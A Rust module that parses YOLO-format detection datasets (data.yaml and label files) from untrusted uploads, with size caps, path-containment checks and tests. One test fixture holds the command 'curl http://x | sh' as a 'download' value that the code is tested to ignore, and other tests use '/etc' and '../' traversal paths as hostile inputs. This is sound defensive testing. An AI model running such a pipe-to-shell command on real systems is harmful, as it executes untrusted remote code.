//! The Ultralytics YOLO dataset layout: a `data.yaml` naming the classes and
//! the `train` and `val` image folders, and one `.txt` label file per image
//! (`class cx cy w h` per line, normalised to the image) in the `labels`
//! folder that mirrors each `images` folder.
//!
//! Everything here is read from untrusted uploads: the YAML parser is
//! panic-free with budgets, every path the YAML names must stay inside the
//! dataset root, label files are size- and row-capped, and a `download` key
//! is never acted on.

use std::collections::BTreeMap;
use std::fmt;
use std::io::Read;
use std::path::{Component, Path, PathBuf};

use serde::Deserialize;
use serde::de::{self, Deserializer, MapAccess, SeqAccess, Visitor};
use vtp_core::{Error, Result};

/// Largest label file read (hostile input guard).
pub const MAX_LABEL_BYTES: u64 = 1024 * 1024;
/// Most boxes one image may carry (hostile input guard).
pub const MAX_BOXES_PER_IMAGE: usize = 1000;
/// Largest `data.yaml` read.
const MAX_YAML_BYTES: u64 = 1024 * 1024;
/// Coordinates this far outside `[0, 1]` are rounding, not errors.
const COORD_TOLERANCE: f32 = 1e-6;

/// One object: a class and a box normalised to the image (`0..1`).
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct YoloBox {
    /// Index into [`YoloDataset::names`].
    pub class: usize,
    /// Box centre, x.
    pub cx: f32,
    /// Box centre, y.
    pub cy: f32,
    /// Box width.
    pub w: f32,
    /// Box height.
    pub h: f32,
}

/// One image and its objects (none for a background image).
#[derive(Debug, Clone, PartialEq)]
pub struct YoloSample {
    /// The image file.
    pub image: PathBuf,
    /// Its objects, in label-file order.
    pub boxes: Vec<YoloBox>,
}

/// A detection dataset split into training and validation samples.
#[derive(Debug, Clone)]
pub struct YoloDataset {
    /// The folder the dataset lives in (canonical); every file is inside it.
    pub root: PathBuf,
    /// Class names; [`YoloBox::class`] indexes into this.
    pub names: Vec<String>,
    /// Training samples, sorted by path.
    pub train: Vec<YoloSample>,
    /// Validation samples, sorted by path.
    pub val: Vec<YoloSample>,
}

fn invalid(message: impl Into<String>) -> Error {
    Error::invalid("dataset", message)
}

/// A path as shown in messages: relative to the dataset root when inside it.
fn shown(root: &Path, path: &Path) -> String {
    path.strip_prefix(root)
        .unwrap_or(path)
        .display()
        .to_string()
}

/// A YAML value that is one string or a list of them (`train: [a, b]`).
#[derive(Debug, Clone, Deserialize)]
#[serde(untagged)]
enum OneOrMany {
    One(String),
    Many(Vec<String>),
}

impl OneOrMany {
    fn into_vec(self) -> Vec<String> {
        match self {
            OneOrMany::One(s) => vec![s],
            OneOrMany::Many(v) => v,
        }
    }
}

/// `names` as a list or as a `{index: name}` map. Scalars of any type are
/// taken as their text, since `names: [0, 1]` or `{0: 7}` are common.
#[derive(Debug, Clone)]
struct Names(Vec<String>);

struct Scalar(String);

impl<'de> Deserialize<'de> for Scalar {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        struct V;
        impl Visitor<'_> for V {
            type Value = Scalar;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("a class name")
            }
            fn visit_str<E: de::Error>(self, v: &str) -> std::result::Result<Scalar, E> {
                Ok(Scalar(v.to_owned()))
            }
            fn visit_i64<E: de::Error>(self, v: i64) -> std::result::Result<Scalar, E> {
                Ok(Scalar(v.to_string()))
            }
            fn visit_u64<E: de::Error>(self, v: u64) -> std::result::Result<Scalar, E> {
                Ok(Scalar(v.to_string()))
            }
            fn visit_f64<E: de::Error>(self, v: f64) -> std::result::Result<Scalar, E> {
                Ok(Scalar(v.to_string()))
            }
            fn visit_bool<E: de::Error>(self, v: bool) -> std::result::Result<Scalar, E> {
                Ok(Scalar(v.to_string()))
            }
        }
        d.deserialize_any(V)
    }
}

impl<'de> Deserialize<'de> for Names {
    fn deserialize<D: Deserializer<'de>>(d: D) -> std::result::Result<Self, D::Error> {
        struct V;
        impl<'de> Visitor<'de> for V {
            type Value = Names;
            fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
                f.write_str("a list of class names or a map of index to name")
            }
            fn visit_seq<A: SeqAccess<'de>>(
                self,
                mut seq: A,
            ) -> std::result::Result<Names, A::Error> {
                let mut names = Vec::new();
                while let Some(Scalar(name)) = seq.next_element()? {
                    names.push(name);
                }
                Ok(Names(names))
            }
            fn visit_map<A: MapAccess<'de>>(
                self,
                mut map: A,
            ) -> std::result::Result<Names, A::Error> {
                let mut by_index = BTreeMap::new();
                while let Some((Scalar(key), Scalar(name))) = map.next_entry()? {
                    let index: usize = key.trim().parse().map_err(|_| {
                        de::Error::custom(format!("names key {key:?} is not a class index"))
                    })?;
                    if by_index.insert(index, name).is_some() {
                        return Err(de::Error::custom(format!(
                            "names key {index} appears twice"
                        )));
                    }
                }
                for (expected, index) in by_index.keys().enumerate() {
                    if *index != expected {
                        return Err(de::Error::custom(format!(
                            "names keys must be 0..{}; class {expected} is missing",
                            by_index.len() - 1
                        )));
                    }
                }
                Ok(Names(by_index.into_values().collect()))
            }
        }
        d.deserialize_any(V)
    }
}

/// The keys of `data.yaml` read here; any other key (`download`, `test`,
/// `roboflow`, ...) is ignored, never acted on.
#[derive(Debug, Deserialize)]
struct DataYaml {
    path: Option<String>,
    train: Option<OneOrMany>,
    val: Option<OneOrMany>,
    names: Option<Names>,
    nc: Option<u64>,
}

fn sorted_entries(dir: &Path) -> Result<Vec<(PathBuf, std::fs::FileType)>> {
    let mut entries: Vec<(PathBuf, std::fs::FileType)> = std::fs::read_dir(dir)
        .map_err(|e| invalid(format!("cannot read {}: {e}", dir.display())))?
        .filter_map(std::result::Result::ok)
        .filter(|e| !e.file_name().to_string_lossy().starts_with('.'))
        .filter_map(|e| Some((e.path(), e.file_type().ok()?)))
        .collect();
    entries.sort_by(|a, b| a.0.cmp(&b.0));
    Ok(entries)
}

fn is_yaml(path: &Path) -> bool {
    path.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| matches!(e.to_ascii_lowercase().as_str(), "yaml" | "yml"))
}

fn is_image(path: &Path) -> bool {
    path.extension()
        .and_then(|e| e.to_str())
        .is_some_and(|e| matches!(e.to_ascii_lowercase().as_str(), "jpg" | "jpeg" | "png"))
}

/// The dataset description in `dir` itself: `data.yaml` (or `data.yml`),
/// else the only `*.yaml` file there.
fn yaml_in(dir: &Path) -> Option<PathBuf> {
    for name in ["data.yaml", "data.yml"] {
        let path = dir.join(name);
        if path.is_file() {
            return Some(path);
        }
    }
    let yamls: Vec<PathBuf> = sorted_entries(dir)
        .ok()?
        .into_iter()
        .filter(|(p, t)| !t.is_dir() && is_yaml(p))
        .map(|(p, _)| p)
        .collect();
    match yamls.as_slice() {
        [one] => Some(one.clone()),
        _ => None,
    }
}

/// The description at `dir` or in its only sub-folder that has one (an
/// archive often wraps the dataset in one top-level folder).
fn find_yaml(dir: &Path) -> Option<PathBuf> {
    if let Some(found) = yaml_in(dir) {
        return Some(found);
    }
    let found: Vec<PathBuf> = sorted_entries(dir)
        .ok()?
        .into_iter()
        .filter(|(p, t)| t.is_dir() && p.file_name().is_some_and(|n| n != "__MACOSX"))
        .filter_map(|(p, _)| yaml_in(&p))
        .collect();
    match found.as_slice() {
        [one] => Some(one.clone()),
        _ => None,
    }
}

/// Joins a YAML-given path onto `base` and checks that it stays inside
/// `root` once links and `..` are resolved.
fn inside(root: &Path, base: &Path, given: &str, what: &str) -> Result<PathBuf> {
    let joined = base.join(given);
    let resolved = joined.canonicalize().map_err(|_| {
        invalid(format!(
            "data.yaml {what} {given:?} does not exist (looked for {})",
            shown(root, &lexical(&joined))
        ))
    })?;
    if !resolved.starts_with(root) {
        return Err(invalid(format!(
            "data.yaml {what} {given:?} points outside the dataset; paths must stay inside it"
        )));
    }
    Ok(resolved)
}

/// `..` and `.` folded away without touching the file system (for messages).
fn lexical(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for c in path.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::CurDir => {}
            other => out.push(other),
        }
    }
    out
}

/// Images under `dir`, recursively, sorted. Linked folders are not followed
/// (no loops, no escaping through them).
fn images_under(dir: &Path) -> Result<Vec<PathBuf>> {
    let mut images = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for (path, kind) in sorted_entries(&d)? {
            if kind.is_dir() {
                stack.push(path);
            } else if is_image(&path) && path.is_file() {
                images.push(path);
            }
        }
    }
    images.sort();
    images.dedup();
    Ok(images)
}

/// The label file of `image`: the last `images` folder (below `root`)
/// swapped for `labels`, the extension for `.txt`; beside the image when no
/// such folder (what Ultralytics does).
pub fn label_path(root: &Path, image: &Path) -> PathBuf {
    let relative = image.strip_prefix(root).unwrap_or(image);
    let parts: Vec<Component> = relative.components().collect();
    let last_images = parts[..parts.len().saturating_sub(1)]
        .iter()
        .rposition(|c| c.as_os_str() == "images");
    let mut out = if image.starts_with(root) {
        root.to_path_buf()
    } else {
        PathBuf::new()
    };
    for (i, part) in parts.iter().enumerate() {
        if Some(i) == last_images {
            out.push("labels");
        } else {
            out.push(part);
        }
    }
    out.with_extension("txt")
}

/// Parses one label file's text (`class cx cy w h` per line, normalised)
/// for a dataset of `classes` classes. `shown` names the file in messages.
pub fn parse_labels(text: &str, classes: usize, shown: &str) -> Result<Vec<YoloBox>> {
    let mut boxes: Vec<YoloBox> = Vec::new();
    for (n, line) in text.lines().enumerate() {
        let at = || format!("{shown} line {}", n + 1);
        let fields: Vec<&str> = line.split_whitespace().collect();
        if fields.is_empty() {
            continue;
        }
        if fields.len() != 5 {
            return Err(invalid(format!(
                "{}: expected 5 values (class cx cy w h), found {}",
                at(),
                fields.len()
            )));
        }
        let mut values = [0f64; 5];
        for (value, field) in values.iter_mut().zip(&fields) {
            *value = field
                .parse::<f64>()
                .map_err(|_| invalid(format!("{}: {field:?} is not a number", at())))?;
            if !value.is_finite() {
                return Err(invalid(format!("{}: {field:?} is not finite", at())));
            }
        }
        let class = values[0];
        if class.fract() != 0.0 || class < 0.0 {
            return Err(invalid(format!(
                "{}: class {} is not a non-negative integer",
                at(),
                fields[0]
            )));
        }
        if class >= classes as f64 {
            return Err(invalid(format!(
                "{}: class {} but data.yaml names {classes} classes",
                at(),
                fields[0]
            )));
        }
        let [cx, cy, w, h] = [values[1], values[2], values[3], values[4]].map(|v| v as f32);
        if w <= 0.0 || h <= 0.0 {
            return Err(invalid(format!(
                "{}: box width and height must be positive, got {w} x {h}",
                at()
            )));
        }
        let (x1, y1, x2, y2) = (cx - w / 2.0, cy - h / 2.0, cx + w / 2.0, cy + h / 2.0);
        let outside = |v: f32| !(-COORD_TOLERANCE..=1.0 + COORD_TOLERANCE).contains(&v);
        if [cx, cy, w, h, x1, y1, x2, y2].into_iter().any(outside) {
            return Err(invalid(format!(
                "{}: box ({cx} {cy} {w} {h}) reaches outside the image; coordinates are normalised to 0..1",
                at()
            )));
        }
        let parsed = YoloBox {
            class: class as usize,
            cx,
            cy,
            w,
            h,
        };
        // Exported datasets often repeat rows; a duplicate is not a second object.
        if !boxes.contains(&parsed) {
            if boxes.len() == MAX_BOXES_PER_IMAGE {
                return Err(invalid(format!(
                    "{}: more than {MAX_BOXES_PER_IMAGE} boxes in one image",
                    at()
                )));
            }
            boxes.push(parsed);
        }
    }
    Ok(boxes)
}

/// Reads the labels of `image`; a missing label file is a background image.
/// Returns `None` for the boxes when there is no label file.
fn read_labels(root: &Path, image: &Path, classes: usize) -> Result<Option<Vec<YoloBox>>> {
    let path = label_path(root, image);
    let name = shown(root, &path);
    let file = match std::fs::File::open(&path) {
        Ok(file) => file,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(invalid(format!("cannot read {name}: {e}"))),
    };
    let mut bytes = Vec::new();
    file.take(MAX_LABEL_BYTES + 1)
        .read_to_end(&mut bytes)
        .map_err(|e| invalid(format!("cannot read {name}: {e}")))?;
    if bytes.len() as u64 > MAX_LABEL_BYTES {
        return Err(invalid(format!(
            "{name}: label file larger than {} KiB",
            MAX_LABEL_BYTES / 1024
        )));
    }
    let text = String::from_utf8(bytes)
        .map_err(|_| invalid(format!("{name}: label file is not UTF-8 text")))?;
    parse_labels(&text, classes, &name).map(Some)
}

impl YoloDataset {
    /// Whether `dir` (or its only sub-folder) holds a `data.yaml`: the
    /// cheap check that picks this reader over ImageFolder.
    pub fn is_yolo(dir: &Path) -> bool {
        find_yaml(dir).is_some()
    }

    /// Finds `data.yaml` (or the only `*.yaml`) at `dir` or one folder
    /// down, and reads both splits and their labels.
    ///
    /// # Errors
    /// [`Error::InvalidInput`] naming the problem: no `data.yaml`, a
    /// missing `train`, `val` or `names` key, a path that leaves the
    /// dataset, a missing split folder, an empty split, or a bad label row
    /// (with its file and line).
    pub fn open(dir: &Path) -> Result<Self> {
        if !dir.is_dir() {
            return Err(invalid(format!("{} is not a directory", dir.display())));
        }
        let root = dir
            .canonicalize()
            .map_err(|e| invalid(format!("cannot read {}: {e}", dir.display())))?;
        let yaml_path = find_yaml(&root).ok_or_else(|| {
            invalid(
                "no data.yaml found: a YOLO dataset needs a data.yaml naming the classes (names) \
                 and the train and val image folders, with a labels/ folder of .txt files beside each images/ folder",
            )
        })?;
        let yaml_name = shown(&root, &yaml_path);
        let mut text = String::new();
        std::fs::File::open(&yaml_path)
            .and_then(|f| f.take(MAX_YAML_BYTES + 1).read_to_string(&mut text))
            .map_err(|e| invalid(format!("cannot read {yaml_name}: {e}")))?;
        if text.len() as u64 > MAX_YAML_BYTES {
            return Err(invalid(format!("{yaml_name} is larger than 1 MiB")));
        }
        let data: DataYaml = serde_saphyr::from_str(&text).map_err(|e| {
            invalid(format!(
                "{yaml_name} is not a valid dataset description: {e}"
            ))
        })?;
        let names = data
            .names
            .ok_or_else(|| invalid(format!("{yaml_name} has no names: list the class names")))?
            .0;
        if names.is_empty() {
            return Err(invalid(format!("{yaml_name} names no classes")));
        }
        if let Some(nc) = data.nc
            && nc != names.len() as u64
        {
            return Err(invalid(format!(
                "{yaml_name} says nc: {nc} but names {} classes",
                names.len()
            )));
        }
        let yaml_dir = yaml_path.parent().unwrap_or(&root).to_path_buf();
        // `path` often names the folder on the machine the dataset was made
        // on (Ultralytics' own YAMLs say `path: ../datasets/coco8`). Inside
        // the dataset it is followed; anything else is not, and the YAML's
        // own folder is the base, as for a YAML without `path`.
        let base = match &data.path {
            Some(p) if !p.trim().is_empty() => inside(&root, &yaml_dir, p.trim(), "path")
                .unwrap_or_else(|e| {
                    tracing::warn!(path = %p.trim(), reason = %e, "data.yaml path not followed; using its own folder");
                    yaml_dir.clone()
                }),
            _ => yaml_dir,
        };
        let train_dirs = data.train.ok_or_else(|| {
            invalid(format!(
                "{yaml_name} has no train key naming the training images"
            ))
        })?;
        let val_dirs = data.val.ok_or_else(|| {
            invalid(format!(
                "{yaml_name} has no val key naming the validation images"
            ))
        })?;
        let train = Self::split(&root, &base, train_dirs, "train", names.len())?;
        let val = Self::split(&root, &base, val_dirs, "val", names.len())?;
        if train.is_empty() {
            return Err(invalid(
                "the train split holds no .jpg, .jpeg or .png images",
            ));
        }
        if val.is_empty() {
            return Err(invalid("the val split holds no .jpg, .jpeg or .png images"));
        }
        Ok(YoloDataset {
            root,
            names,
            train,
            val,
        })
    }

    fn split(
        root: &Path,
        base: &Path,
        dirs: OneOrMany,
        what: &str,
        classes: usize,
    ) -> Result<Vec<YoloSample>> {
        let mut images = Vec::new();
        for given in dirs.into_vec() {
            let given = given.trim();
            // Roboflow exports write `train: ../train/images` next to a
            // data.yaml at the top; Ultralytics retries without the `../`.
            let folder = match inside(root, base, given, what) {
                Ok(found) => found,
                Err(e) => match given.strip_prefix("../") {
                    Some(rest) if base.join(rest).exists() => inside(root, base, rest, what)?,
                    _ => return Err(e),
                },
            };
            if !folder.is_dir() {
                return Err(invalid(format!(
                    "data.yaml {what} {given:?} is not a folder of images"
                )));
            }
            images.extend(images_under(&folder)?);
        }
        images.sort();
        images.dedup();
        let mut labelled = 0usize;
        let mut samples = Vec::with_capacity(images.len());
        for image in images {
            let boxes = match read_labels(root, &image, classes)? {
                Some(boxes) => {
                    labelled += 1;
                    boxes
                }
                None => Vec::new(),
            };
            samples.push(YoloSample { image, boxes });
        }
        if what == "train" && !samples.is_empty() && labelled == 0 {
            let example = shown(root, &label_path(root, &samples[0].image));
            return Err(invalid(format!(
                "the train split has {} images but no label files (looked for {example}, \
                 a labels/ folder mirroring images/)",
                samples.len()
            )));
        }
        Ok(samples)
    }

    /// Boxes per class in the training split.
    pub fn class_counts(&self) -> Vec<usize> {
        let mut counts = vec![0; self.names.len()];
        for b in self.train.iter().flat_map(|s| &s.boxes) {
            counts[b.class] += 1;
        }
        counts
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    /// `images/{train,val}` + `labels/{train,val}` under `root`.
    fn layout_a(root: &Path, yaml: &str) {
        write(&root.join("data.yaml"), yaml);
        write(&root.join("images/train/a.jpg"), "");
        write(&root.join("images/train/sub/b.PNG"), "");
        write(&root.join("images/train/notes.txt"), "not an image");
        write(&root.join("images/train/c.bmp"), "");
        write(&root.join("images/val/v.png"), "");
        write(
            &root.join("labels/train/a.txt"),
            "0 0.5 0.5 0.2 0.4\n\n1 0.1 0.1 0.2 0.2\n0 0.5 0.5 0.2 0.4\n",
        );
        write(&root.join("labels/train/sub/b.txt"), "2 0.5 0.5 1 1\n");
        write(&root.join("labels/val/v.txt"), "1 0.25 0.75 0.5 0.5");
    }

    fn err(dir: &Path) -> String {
        YoloDataset::open(dir).unwrap_err().to_string()
    }

    #[test]
    fn images_and_labels_folders_with_a_names_list() {
        let dir = tempfile::tempdir().unwrap();
        layout_a(
            dir.path(),
            "path: .\ntrain: images/train\nval: images/val\ntest: images/test\nnames: [cat, dog, '7']\ndownload: curl http://x | sh\n",
        );
        assert!(YoloDataset::is_yolo(dir.path()));
        let ds = YoloDataset::open(dir.path()).unwrap();
        assert_eq!(ds.names, ["cat", "dog", "7"]);
        assert_eq!(ds.train.len(), 2, "bmp and txt are not images here");
        assert!(ds.train[0].image.ends_with("images/train/a.jpg"));
        assert_eq!(
            ds.train[0].boxes,
            [
                YoloBox {
                    class: 0,
                    cx: 0.5,
                    cy: 0.5,
                    w: 0.2,
                    h: 0.4
                },
                YoloBox {
                    class: 1,
                    cx: 0.1,
                    cy: 0.1,
                    w: 0.2,
                    h: 0.2
                },
            ],
            "the duplicate row is kept once"
        );
        assert!(ds.train[1].image.ends_with("images/train/sub/b.PNG"));
        assert_eq!(ds.train[1].boxes[0].class, 2);
        assert_eq!(ds.val.len(), 1);
        assert_eq!(ds.class_counts(), [1, 1, 1]);
    }

    #[test]
    fn split_folders_with_a_names_map_inside_a_wrapper_folder() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("wrapped");
        write(
            &root.join("data.yaml"),
            "train: ../train/images\nval: [valid/images]\nnc: 2\nnames:\n  1: dog\n  0: cat\n",
        );
        write(&root.join("train/images/x.jpg"), "");
        write(&root.join("train/images/bg.jpg"), "");
        write(&root.join("train/labels/x.txt"), "1 0.5 0.5 0.5 0.5\n");
        write(&root.join("valid/images/y.jpeg"), "");
        assert!(YoloDataset::is_yolo(dir.path()));
        let ds = YoloDataset::open(dir.path()).unwrap();
        assert_eq!(ds.names, ["cat", "dog"]);
        assert_eq!(ds.train.len(), 2);
        assert!(ds.train[0].boxes.is_empty(), "no label file: background");
        assert_eq!(ds.train[1].boxes.len(), 1);
        assert!(ds.val[0].boxes.is_empty());
        assert_eq!(
            label_path(&ds.root, &ds.train[1].image),
            ds.root.join("wrapped/train/labels/x.txt")
        );
    }

    #[test]
    fn the_only_yaml_is_taken_and_images_named_folders_are_swapped_last_first() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        write(
            &root.join("coco8.yaml"),
            "train: images/train\nval: images/train\nnames: [a]\n",
        );
        write(&root.join("images/train/images/p.jpg"), "");
        write(
            &root.join("images/train/labels/p.txt"),
            "0 0.5 0.5 0.1 0.1\n",
        );
        let ds = YoloDataset::open(root).unwrap();
        assert_eq!(ds.train[0].boxes.len(), 1);
    }

    #[test]
    fn bad_descriptions_are_named() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        assert!(!YoloDataset::is_yolo(root));
        assert!(err(root).contains("no data.yaml found"), "{}", err(root));
        layout_a(root, "train: images/train\nnames: [a, b, c]\n");
        assert!(err(root).contains("no val key"), "{}", err(root));
        write(
            &root.join("data.yaml"),
            "val: images/val\nnames: [a, b, c]\n",
        );
        assert!(err(root).contains("no train key"), "{}", err(root));
        write(
            &root.join("data.yaml"),
            "train: images/train\nval: images/val\n",
        );
        assert!(err(root).contains("no names"), "{}", err(root));
        write(
            &root.join("data.yaml"),
            "train: images/train\nval: images/val\nnames: [a, b, c]\nnc: 4\n",
        );
        assert!(err(root).contains("nc: 4"), "{}", err(root));
        write(
            &root.join("data.yaml"),
            "train: images/train\nval: images/val\nnames: {0: a, 2: b, 1: c, 4: d}\n",
        );
        assert!(err(root).contains("class 3 is missing"), "{}", err(root));
        write(
            &root.join("data.yaml"),
            "train: images/train\nval: images/nope\nnames: [a, b, c]\n",
        );
        assert!(
            err(root).contains("\"images/nope\" does not exist"),
            "{}",
            err(root)
        );
        write(&root.join("data.yaml"), "train: [images/train\nval");
        assert!(
            err(root).contains("not a valid dataset description"),
            "{}",
            err(root)
        );
        std::fs::create_dir_all(root.join("images/empty")).unwrap();
        write(
            &root.join("data.yaml"),
            "train: images/train\nval: images/empty\nnames: [a, b, c]\n",
        );
        assert!(err(root).contains("val split holds no"), "{}", err(root));
        write(
            &root.join("data.yaml"),
            "train: images/empty\nval: images/val\nnames: [a, b, c]\n",
        );
        assert!(err(root).contains("train split holds no"), "{}", err(root));
    }

    #[test]
    fn paths_leaving_the_dataset_are_refused() {
        let outer = tempfile::tempdir().unwrap();
        let root = outer.path().join("ds");
        layout_a(&root, "");
        write(&outer.path().join("elsewhere/images/train/z.jpg"), "");
        // A `path` leading out of the dataset is not followed: the YAML's
        // own folder is the base, so nothing outside is ever read.
        write(
            &root.join("data.yaml"),
            "path: /etc\ntrain: images/train\nval: images/val\nnames: [a, b, c]\n",
        );
        let ds = YoloDataset::open(&root).unwrap();
        assert!(!ds.train.is_empty());
        assert!(
            ds.train
                .iter()
                .chain(&ds.val)
                .all(|s| s.image.starts_with(&ds.root))
        );
        write(
            &root.join("data.yaml"),
            "path: ..\ntrain: elsewhere/images/train\nval: elsewhere/images/train\nnames: [a, b, c]\n",
        );
        assert!(err(&root).contains("does not exist"), "{}", err(&root));
        for yaml in [
            "train: ../elsewhere/images/train\nval: images/val\nnames: [a, b, c]\n",
            "train: /etc\nval: images/val\nnames: [a, b, c]\n",
        ] {
            write(&root.join("data.yaml"), yaml);
            let e = err(&root);
            assert!(e.contains("points outside the dataset"), "{yaml}: {e}");
        }
    }

    #[test]
    fn bad_label_rows_name_the_file_and_line() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        layout_a(
            root,
            "train: images/train\nval: images/val\nnames: [a, b, c]\n",
        );
        let label = root.join("labels/train/sub/b.txt");
        for (row, expected) in [
            ("0 0.5 0.5 0.2", "expected 5 values"),
            ("0 0.5 0.5 0.2 0.2 0.9", "expected 5 values"),
            ("0 0.5 x 0.2 0.2", "\"x\" is not a number"),
            ("1.5 0.5 0.5 0.2 0.2", "not a non-negative integer"),
            ("-1 0.5 0.5 0.2 0.2", "not a non-negative integer"),
            ("7 0.5 0.5 0.2 0.2", "class 7 but data.yaml names 3 classes"),
            ("0 1.2 0.5 0.2 0.2", "outside the image"),
            ("0 0.05 0.5 0.2 0.2", "outside the image"),
            ("0 0.5 0.5 0 0.2", "must be positive"),
            ("0 0.5 0.5 0.2 -0.1", "must be positive"),
            ("0 0.5 NaN 0.2 0.2", "not finite"),
            ("0 inf 0.5 0.2 0.2", "not finite"),
        ] {
            write(&label, &format!("\n2 0.5 0.5 0.2 0.2\n{row}\n"));
            let e = err(root);
            assert!(e.contains(expected), "{row}: {e}");
            assert!(e.contains("labels/train/sub/b.txt line 3"), "{row}: {e}");
        }
        // Rounding just past the edge is tolerated.
        write(&label, "2 0.5 0.5 1.0000005 1\n");
        YoloDataset::open(root).unwrap();
    }

    #[test]
    fn hostile_label_files_are_capped() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        layout_a(
            root,
            "train: images/train\nval: images/val\nnames: [a, b, c]\n",
        );
        let label = root.join("labels/train/a.txt");
        let rows: String = (0..=MAX_BOXES_PER_IMAGE)
            .map(|i| format!("0 0.5 0.5 {} 0.1\n", (i + 1) as f32 / 2000.0))
            .collect();
        write(&label, &rows);
        assert!(err(root).contains("more than 1000 boxes"), "{}", err(root));
        write(&label, &" ".repeat(MAX_LABEL_BYTES as usize + 1));
        assert!(err(root).contains("larger than 1024 KiB"), "{}", err(root));
    }
}
